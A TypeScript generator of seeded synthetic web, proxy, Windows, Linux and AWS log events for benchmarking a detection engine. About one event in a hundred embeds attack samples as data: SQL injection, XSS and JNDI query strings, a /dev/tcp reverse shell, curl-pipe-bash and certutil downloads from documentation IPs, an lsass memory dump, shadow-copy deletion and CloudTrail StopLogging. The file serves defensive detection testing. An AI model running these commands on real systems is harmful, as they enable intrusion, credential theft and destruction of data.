// Events for the benchmark of the detection engine: the same for the same seed, about 500 bytes a line.
import { Buffer } from 'node:buffer';
import fs from 'node:fs';
import { pickFrom, type Random, seeded } from './seeded-random.ts';

/** What the events are of: web servers and proxies, or those with Windows, Linux and cloud. */
export type EventMix = 'web' | 'mixed';

type Fields = Readonly<Record<string, unknown>>;

const SEED = 20_261_122;
const START_MS = Date.UTC(2026, 10, 22);
/** One in so many events carries something that rules look for. */
const SUSPICIOUS_ONE_IN = 100;
const WRITE_BYTES = 1_048_576;

/** Writes a file of events, a line each. */
export function writeEvents(file: string, mix: EventMix, count: number): void {
  const random = seeded(SEED);
  writeLines(file, count, (index) =>
    JSON.stringify({ '@timestamp': stamp(index), ...makeEvent(mix, random) }),
  );
}

/** One event of a mix, without its time. */
export function makeEvent(mix: EventMix, random: Random): Fields {
  return pickFrom(mix === 'web' ? WEB : MIXED, random)(random);
}

/** Writes a file line by line, a megabyte at a time. */
export function writeLines(file: string, count: number, lineAt: (index: number) => string): void {
  const fd = fs.openSync(file, 'w');
  let block = '';
  for (let index = 0; index < count; index++) {
    block += `${lineAt(index)}\n`;
    if (block.length < WRITE_BYTES) continue;
    fs.writeSync(fd, Buffer.from(block));
    block = '';
  }
  fs.writeSync(fd, Buffer.from(block));
  fs.closeSync(fd);
}

function stamp(index: number): string {
  return new Date(START_MS + index * 7).toISOString();
}

function number(random: Random, below: number): number {
  return Math.floor(random() * below);
}

function address(random: Random): string {
  return `203.0.113.${number(random, 254) + 1}`;
}

function hex(random: Random, chars: number): string {
  let text = '';
  while (text.length < chars)
    text += number(random, 2 ** 32)
      .toString(16)
      .padStart(8, '0');
  return text.slice(0, chars);
}

function isSuspicious(random: Random): boolean {
  return random() * SUSPICIOUS_ONE_IN < 1;
}

const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 15; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
];
const SUSPICIOUS_AGENTS = [
  'sqlmap/1.8',
  'Wget/1.9+cvs-stable',
  'nmap nse',
  'masscan/1.3',
  'curl/8.9',
];
const SITES = ['dichvucong.example.vn', 'mot-cua.example.vn', 'hoso.example.vn', 'cdn.example.net'];
const PATHS = [
  '/ho-so/tra-cuu',
  '/nop-ho-so/buoc-2',
  '/api/v2/dossiers',
  '/thanh-toan',
  '/static/app.js',
  '/dang-nhap',
];
const ATTACKS = [
  'id=1%27%20UNION%20ALL%20SELECT%20null,version()',
  'q=%3Cscript%3Ealert(1)%3C/script%3E',
  'file=../../../../../lib/password',
  'x=$\u007bjndi:ldap://198.51.100.7/a}',
  'cmd=whoami&path=/.git/config',
  'name={{7*7}}&tpl=freemarker.template.utility.Execute',
];
const METHODS = ['GET', 'GET', 'GET', 'POST', 'HEAD', 'PUT'];
const STATUSES = [200, 200, 200, 200, 302, 304, 404, 500];

function query(random: Random): string {
  if (isSuspicious(random)) return pickFrom(ATTACKS, random);
  return `ma=${hex(random, 12)}&trang=${number(random, 40)}&sap-xep=ngay&tu-ngay=2026-11-${10 + number(random, 18)}`;
}

function agent(random: Random): string {
  return pickFrom(isSuspicious(random) ? SUSPICIOUS_AGENTS : AGENTS, random);
}

function webServer(random: Random): Fields {
  return {
    logsource: { category: 'webserver', product: 'nginx', service: 'nginx' },
    'c-ip': address(random),
    'cs-method': pickFrom(METHODS, random),
    'cs-host': pickFrom(SITES, random),
    'cs-uri-stem': pickFrom(PATHS, random),
    'cs-uri-query': query(random),
    'sc-status': pickFrom(STATUSES, random),
    'sc-bytes': number(random, 90_000),
    'time-taken': number(random, 900),
    'cs-user-agent': agent(random),
    'cs-referer': `https://${pickFrom(SITES, random)}${pickFrom(PATHS, random)}`,
    'cs-cookie': `session=${hex(random, 24)}`,
  };
}

function proxy(random: Random): Fields {
  const host = pickFrom(SITES, random);
  const asked = query(random);
  return {
    logsource: { category: 'proxy', product: 'squid' },
    'c-ip': `192.0.2.${number(random, 254) + 1}`,
    'cs-username': `can.bo.${number(random, 5_000)}`,
    'cs-method': pickFrom(METHODS, random),
    'cs-host': host,
    'c-uri': `https://${host}${pickFrom(PATHS, random)}?${asked}`,
    'c-uri-query': asked,
    'c-uri-extension': pickFrom(['html', 'js', 'json', 'css', 'png', 'woff2'], random),
    'sc-status': pickFrom(STATUSES, random),
    'sc-bytes': number(random, 90_000),
    'c-useragent': agent(random),
  };
}

const SYSTEM = 'C:\\Windows\\System32';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
/** Program, command line and parent. */
const COMMANDS = [
  [
    `${SYSTEM}\\svchost.exe`,
    `${SYSTEM}\\svchost.exe -k netsvcs -p -s Schedule`,
    `${SYSTEM}\\services.exe`,
  ],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=vi',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  ],
  [
    `${OFFICE}\\WINWORD.EXE`,
    `"${OFFICE}\\WINWORD.EXE" /n "C:\\Users\\canbo\\Documents\\To-trinh.docx"`,
    'C:\\Windows\\explorer.exe',
  ],
  [`${SYSTEM}\\taskhostw.exe`, 'taskhostw.exe', `${SYSTEM}\\svchost.exe`],
  [
    `${SYSTEM}\\SearchProtocolHost.exe`,
    `"${SYSTEM}\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe_1 "Software\\Search"`,
    `${SYSTEM}\\SearchIndexer.exe`,
  ],
] as const;
const SUSPICIOUS_COMMANDS = [
  ['powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'],
  ['cmd.exe', 'cmd.exe /c whoami /all & net user administrator /domain'],
  ['certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.9/a.exe C:\\temp\\a.exe'],
  ['rundll32.exe', 'rundll32.exe comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full'],
  ['schtasks.exe', 'schtasks /create /sc minute /tn upd /tr C:\\Users\\Public\\a.exe'],
  ['vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
].map(([name, commandLine]) => [`${SYSTEM}\\${name}`, commandLine, `${SYSTEM}\\cmd.exe`] as const);

function windowsProcess(random: Random): Fields {
  const commands = isSuspicious(random) ? SUSPICIOUS_COMMANDS : COMMANDS;
  const [image, commandLine = '', parent] = pickFrom<readonly (string | undefined)[]>(
    commands,
    random,
  );
  return {
    logsource: { category: 'process_creation', product: 'windows', service: 'sysmon' },
    EventID: 1,
    Computer: `PC-${number(random, 400)}.xa.example.vn`,
    Image: image,
    OriginalFileName: image?.slice(image.lastIndexOf('\\') + 1),
    CommandLine: commandLine,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    User: `XA\\canbo${number(random, 900)}`,
    IntegrityLevel: pickFrom(['Medium', 'High', 'System'], random),
    ParentImage: parent,
    ProcessId: number(random, 30_000),
    ProcessGuid: `{${hex(random, 32)}}`,
    Hashes: `MD5=${hex(random, 32).toUpperCase()}`,
  };
}

const SHELLS = [
  '/usr/bin/bash -c /usr/local/bin/backup-dossiers --since yesterday',
  '/usr/sbin/logrotate /etc/logrotate.conf',
  'python3 /opt/portal/manage.py runworker notifications',
  'systemctl is-active nginx.service',
];
const SUSPICIOUS_SHELLS = [
  'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1',
  'curl -s http://198.51.100.4/x.sh | bash',
  'chmod +x /tmp/.x && nohup /tmp/.x',
  'cat /etc/shadow',
  'base64 -d /tmp/p | sh',
];

function linuxProcess(random: Random): Fields {
  const commandLine = pickFrom(isSuspicious(random) ? SUSPICIOUS_SHELLS : SHELLS, random);
  return {
    logsource: { category: 'process_creation', product: 'linux' },
    host: { name: `portal-${number(random, 30)}`, os: { type: 'linux' } },
    Image: commandLine.split(' ')[0],
    CommandLine: commandLine,
    ParentImage: pickFrom(['/usr/lib/systemd/systemd', '/usr/bin/bash', '/usr/sbin/cron'], random),
    ParentCommandLine: '/usr/lib/systemd/systemd --switched-root --system --deserialize 22',
    User: pickFrom(['root', 'www-data', 'portal', 'postgres'], random),
    CurrentDirectory: pickFrom(['/', '/opt/portal', '/var/lib/postgresql'], random),
    ProcessId: number(random, 60_000),
    message: `audit: type=EXECVE pid=${number(random, 60_000)} argc=3`,
  };
}

const CLOUD_ACTIONS = [
  ['s3.amazonaws.com', 'GetObject'],
  ['ec2.amazonaws.com', 'DescribeInstances'],
  ['sts.amazonaws.com', 'AssumeRole'],
  ['iam.amazonaws.com', 'ListUsers'],
] as const;
const SUSPICIOUS_CLOUD_ACTIONS = [
  ['cloudtrail.amazonaws.com', 'StopLogging'],
  ['iam.amazonaws.com', 'CreateAccessKey'],
  ['guardduty.amazonaws.com', 'CreateIPSet'],
  ['ec2.amazonaws.com', 'CreateSnapshot'],
] as const;

function cloud(random: Random): Fields {
  const actions = isSuspicious(random) ? SUSPICIOUS_CLOUD_ACTIONS : CLOUD_ACTIONS;
  const [eventSource, eventName] = pickFrom<readonly [string, string]>(actions, random);
  return {
    logsource: { product: 'aws', service: 'cloudtrail' },
    eventVersion: '1.09',
    eventSource,
    eventName,
    awsRegion: 'ap-southeast-1',
    sourceIPAddress: address(random),
    userAgent: 'aws-sdk-java/2.29.6 Linux/6.1 OpenJDK_64-Bit_Server_VM/21',
    userIdentity: {
      type: pickFrom(['AssumedRole', 'IAMUser', 'AWSService'], random),
      userName: `dich-vu-${number(random, 80)}`,
      arn: `arn:aws:sts::000000000000:assumed-role/portal/${hex(random, 12)}`,
    },
    requestParameters: { bucketName: 'ho-so-luu-tru', key: `2026/11/${hex(random, 16)}.pdf` },
    eventID: hex(random, 32),
    readOnly: true,
  };
}

const WEB = [webServer, proxy];
const MIXED = [webServer, proxy, windowsProcess, windowsProcess, linuxProcess, cloud];
